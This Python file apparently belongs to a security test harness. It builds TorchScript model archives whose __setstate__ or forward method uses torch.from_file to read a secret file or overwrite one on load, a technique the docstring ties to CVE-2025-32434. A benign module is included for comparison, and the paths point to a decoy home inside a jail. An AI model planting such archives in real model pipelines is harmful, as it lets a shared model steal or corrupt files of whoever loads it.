"""TorchScript modules whose compiled code reaches the file system through torch's own operators
(issue #12). TorchScript has no `os` or `open`, but `torch.from_file` maps any path: read-only it
reads a secret, `shared=True` creates the file and writes through the mapping (the primitive of
CVE-2025-32434, where `torch.load(weights_only=True)` dispatched such archives to torch.jit.load).
A module's `__setstate__` runs inside torch.jit.load; its `forward` runs when the victim uses it.

Importing this module imports torch; building an archive only compiles and saves, nothing runs.
Paths are the decoy home's (/home/alice), so every effect stays inside the jail.
"""
import io
from typing import Tuple

import torch

HOME = "/home/alice"


class FileReach(torch.nn.Module):
    """Maps `path` with torch.from_file, from __setstate__ (during torch.jit.load) or from
    forward() (when the victim uses the model): read-only it reads the file, shared it writes
    `payload` over its start (creating it when missing)."""

    def __init__(self, path: str, payload: bytes, write: bool, on_load: bool):
        super().__init__()
        # Parameters, not a Linear submodule: __setstate__ must restore every attribute itself.
        self.weight = torch.nn.Parameter(torch.randn(2, 4))
        self.bias = torch.nn.Parameter(torch.zeros(2))
        self.path = path
        self.write = write
        self.on_load = on_load
        self.register_buffer("payload", torch.tensor(list(payload), dtype=torch.uint8))

    def reach(self) -> None:
        target = torch.from_file(self.path, shared=self.write, size=self.payload.numel(), dtype=torch.uint8)
        if self.write:
            target.copy_(self.payload)
        else:
            self.payload = target

    def forward(self, x):
        if not self.on_load:
            self.reach()
        return torch.nn.functional.linear(x, self.weight, self.bias)

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool, bool, torch.Tensor, torch.Tensor, torch.Tensor, bool]:
        return (self.path, self.write, self.on_load, self.payload, self.weight, self.bias, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool, bool, torch.Tensor, torch.Tensor, torch.Tensor, bool]) -> None:
        self.path, self.write, self.on_load, self.payload, self.weight, self.bias, self.training = state
        if self.on_load:
            self.reach()


class ScaledLinear(torch.nn.Module):
    """An ordinary scripted module: what benign TorchScript files hold."""

    def __init__(self, width: int, scale: float):
        super().__init__()
        self.linear = torch.nn.Linear(width, 2)
        self.scale = scale

    def forward(self, x):
        return torch.tanh(self.linear(x)) * self.scale


def archive(module, trace_width=0):
    """torch.jit.save of the module, scripted (or traced on zeros(1, trace_width) when asked)."""
    compiled = torch.jit.trace(module, torch.zeros(1, trace_width)) if trace_width else torch.jit.script(module)
    buf = io.BytesIO()
    torch.jit.save(compiled, buf)
    return buf.getvalue()


def file_reach(path, payload=b"\0" * 16, write=False, on_load=True, seed=0):
    """An archive whose module reads (or writes payload to) path under the decoy home."""
    torch.manual_seed(seed)
    return archive(FileReach(f"{HOME}/{path}", payload, write, on_load))


def scaled_linear(width=4, scale=2.0, traced=False, seed=0):
    torch.manual_seed(seed)
    return archive(ScaledLinear(width, scale), width if traced else 0)
